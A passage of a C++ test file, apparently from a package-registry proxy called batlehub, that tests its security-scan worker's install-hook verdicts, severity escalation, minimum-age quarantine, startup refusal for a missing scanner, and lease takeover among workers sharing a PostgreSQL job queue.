  // deny = an install hook judged at critical, at or above max_severity (high): denied.
  EXPECT_EQ(verdict("deny-hooks", "hooked"), "denied INSTALL_HOOK");
  EXPECT_EQ(verdict("warn-hooks", "hooked"), "warned INSTALL_HOOK");
  // The escalation: two install_hook findings at high from postmortem are raised to critical;
  // one is not.
  auto severities = [&](const std::string& registry, const std::string& name) {
    return db.query(
        "SELECT string_agg(severity, ',' ORDER BY created_at, scanner) FROM artifact_findings "
        "WHERE registry = $1 AND package_name = $2",
        {registry, name})[0][0];
  };
  EXPECT_EQ(severities("warn-hooks", "twice-hooked"), "critical,critical");
  EXPECT_EQ(severities("warn-hooks", "hooked"), "high");
  // A registry with no security table: its job is closed and nothing recorded, as upstream
  // drops it (its API would answer 404 for any verdict of it).
  EXPECT_EQ(verdict("no-table", "hooked"), "(none)");
  EXPECT_EQ(
      db.query("SELECT attempts || ' ' || (completed_at IS NOT NULL) FROM scan_jobs WHERE registry = 'no-table'")[0][0],
      "1 true");
  // The age rule: scanned, clean, and still held until it is a day old.
  EXPECT_EQ(verdict("young", "fresh"), "quarantined MIN_AGE_NOT_MET");
  // In whole seconds: the port speaks seconds, so the hold lifts at the publication's second.
  auto lifts = db.query(R"(SELECT floor(extract(epoch FROM v.available_at))::bigint
                                  - floor(extract(epoch FROM j.published_at))::bigint, f.scanner, f.kind
                           FROM artifact_verdicts v JOIN scan_jobs j USING (registry, package_name, version)
                           JOIN artifact_findings f USING (registry, package_name, version)
                           WHERE v.registry = 'young')");
  ASSERT_EQ(lifts.size(), 1u);
  EXPECT_EQ(lifts[0][0], "86400");
  EXPECT_EQ(lifts[0][1], "age");
  EXPECT_EQ(lifts[0][2], "age");
}

TEST_F(RegistryPolicies, a_registry_requiring_a_scanner_no_table_declares_is_refused_at_start_with_the_reason) {
  UpstreamDatabase db;
  auto w = start_worker(config(db.dsn(), "\"warn-hooks\", \"needs-socket\""));
  EXPECT_EQ(w->wait_exit(std::chrono::seconds(60)), std::optional<int>(2)) << w->err();
  const std::string first = w->out().substr(0, w->out().find('\n'));
  EXPECT_EQ(first,
            "registry 'needs-socket' (registries[3].security) cannot be served by this worker: it requires scanner "
            "'socket', which no [scanners] table declares: its versions would stay SCAN_PENDING. "
            "Remove it from [worker] registries and leave it to upstream's worker")
      << w->out() << w->err();
  EXPECT_EQ(db.query("SELECT count(*) FROM worker_heartbeats")[0][0], "0") << "it never joined the queue";
}

// Two workers of this project and a foreign lessee — the test itself, leasing with upstream's
// own statement (B.3: two picks, FOR UPDATE SKIP LOCKED) and completing as upstream's Rust
// worker does — on one queue; one worker killed with SIGKILL while it holds jobs.
TEST_F(RegistryPolicies, two_workers_and_a_foreign_lessee_share_one_queue_and_a_killed_workers_jobs_are_taken_over) {
  UpstreamDatabase db;
  // Each scan takes two seconds: long enough to kill a worker that holds some.
  std::vector<TestEntry> slow{file("package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}"),
                              file("package/fake-postmortem-sleep", "2")};
  const std::string bytes = make_tgz(slow);
  struct Job {
    std::string name, trigger;
    int priority;
  };
  std::vector<Job> jobs;
  for (int i = 0; i < 10; ++i) jobs.push_back({"first-" + std::to_string(i), "first_seen", 0});
  for (int i = 0; i < 2; ++i) jobs.push_back({"rescan-" + std::to_string(i), "rescan", 2});
  for (int i = 0; i < 3; ++i) jobs.push_back({"backfill-" + std::to_string(i), "backfill", 3});
  for (const Job& j : jobs) {
    const std::string key = "artifact:warn-hooks/" + j.name + "/1.0.0/tarball";
    write_fs_object(s_.root() / "cache", "blob/" + sha256_hex(bytes), bytes);
    db.record_cached(key, bytes, "default");
    db.query(R"(INSERT INTO scan_jobs (id, registry, package_name, version, published_at, trigger, priority)
                VALUES (gen_random_uuid(), 'warn-hooks', $1, '1.0.0', now() - interval '30 days', $2, $3::smallint))",
             {j.name, j.trigger, std::to_string(j.priority)});
    std::this_thread::sleep_for(std::chrono::milliseconds(5));  // distinct ages
  }
  // [worker] job_timeout_secs = 60 in config(): a killed worker's leases lapse within a minute.
  const fs::path cfg = config(db.dsn(), "\"warn-hooks\"");
  std::string text = Scratch::read(cfg);
  text.replace(text.find("job_timeout_secs = 60"), 21, "job_timeout_secs = 8\nmax_concurrent = 2");
  Scratch::write(cfg, text);
  auto a = start_worker(cfg);
  auto b =
      std::make_unique<Process>(std::vector<std::string>{BATLEHUB_BIN, "--config", cfg.string(), "--roles", "worker"},
                                std::vector<std::string>{"PATH=/usr/bin:/bin", "TMPDIR=" + tmp_.string()},
                                s_.root() / "b.out", s_.root() / "b.err");

  // The foreign lessee: upstream's lease of n = 2, then upstream's complete with a verdict row
  // of its own, a few times while the workers run.
  const std::string lease = R"(
      UPDATE scan_jobs SET leased_until = now() + make_interval(secs => 600::float8), leased_by = 'rust-worker-1',
                           attempts = attempts + 1
      WHERE id IN (SELECT id FROM scan_jobs WHERE completed_at IS NULL
                     AND (leased_until IS NULL OR leased_until < now()) AND attempts < 3
                     AND (cardinality($1::text[]) = 0 OR registry = ANY($1::text[]))
                   ORDER BY )";
  std::vector<std::string> foreign;
  for (int round = 0; round < 1; ++round) {
    for (const char* order : {"priority, created_at LIMIT 1", "priority DESC, created_at LIMIT 1"}) {
      auto got =
          db.query(lease + order + " FOR UPDATE SKIP LOCKED) RETURNING id::text, package_name", {"{warn-hooks}"});
      for (const auto& r : got) {
        foreign.push_back(r[1]);
        db.query(R"(INSERT INTO artifact_verdicts (registry, package_name, version, state, policy_ref, evaluated_at,
                      last_scanned_at) VALUES ('warn-hooks', $1, '1.0.0', 'allowed', 'warn-hooks/default', now(), now())
                    ON CONFLICT (registry, package_name, version) DO UPDATE SET state = excluded.state)",
                 {r[1]});
        db.query("UPDATE scan_jobs SET completed_at = now(), leased_until = NULL WHERE id = $1::uuid", {r[0]});
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }
  // A worker killed while it holds jobs: its leases lapse, and the other worker takes them.
  ASSERT_TRUE(eventually(
      [&] {
        return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL AND leased_by LIKE '%-" +
                        std::to_string(a->pid()) + "'")[0][0] != "0";
      },
      std::chrono::seconds(60)))
      << a->err();
  const auto held = db.query("SELECT package_name FROM scan_jobs WHERE completed_at IS NULL AND leased_by LIKE '%-" +
                             std::to_string(a->pid()) + "'");
  a->signal(SIGKILL);
  ASSERT_TRUE(
      eventually([&] { return db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0] == "0"; },
                 std::chrono::seconds(240)))
      << b->err();

  // No job leased twice but the killed worker's; each closed once.
  std::set<std::string> killed_held;
  for (const auto& r : held) killed_held.insert(r[0]);
  for (const auto& r : db.query("SELECT package_name, attempts, leased_by FROM scan_jobs ORDER BY package_name")) {
    if (killed_held.contains(r[0])) {
      EXPECT_EQ(r[1], "2") << r[0] << ": taken over once, after its lease";
      EXPECT_EQ(r[2].substr(r[2].rfind('-') + 1), std::to_string(b->pid())) << r[0];
    } else {
      EXPECT_EQ(r[1], "1") << r[0] << " was leased more than once";
    }
  }
  EXPECT_EQ(db.query("SELECT count(*) FROM scan_jobs WHERE completed_at IS NULL")[0][0], "0");
  // The foreign lessee's priorities: its first pick the oldest first_seen it found, its
  // second a backfill (the anti-starvation slot), while first_seen jobs still waited.
  ASSERT_GE(foreign.size(), 2u);
  EXPECT_EQ(foreign[0].rfind("first-", 0), 0u) << foreign[0];
  EXPECT_EQ(foreign[1].rfind("backfill-", 0), 0u) << foreign[1];
  // The workers' own leases keep the slot too: the backfill left to them is scanned in their
  // first leases, not after every first_seen (the killed worker's jobs aside: they waited
  // for its leases to lapse).
  std::vector<std::vector<std::string>> order;
  for (auto& r : db.query(R"(SELECT package_name FROM scan_jobs WHERE leased_by <> 'rust-worker-1'
                             ORDER BY completed_at, package_name)")) {
    if (!killed_held.contains(r[0])) order.push_back(std::move(r));
  }
  std::size_t first_backfill = order.size(), last_first = 0;
  for (std::size_t i = 0; i < order.size(); ++i) {
    if (order[i][0].rfind("backfill-", 0) == 0) first_backfill = std::min(first_backfill, i);
    if (order[i][0].rfind("first-", 0) == 0) last_first = i;
  }
  if (first_backfill == order.size())
    GTEST_SKIP() << "the killed worker held the one backfill left: nothing to compare";
  EXPECT_LT(first_backfill, last_first) << "a backfill waited for every first_seen";
}

}  // namespace
}  // namespace batlehub::testing
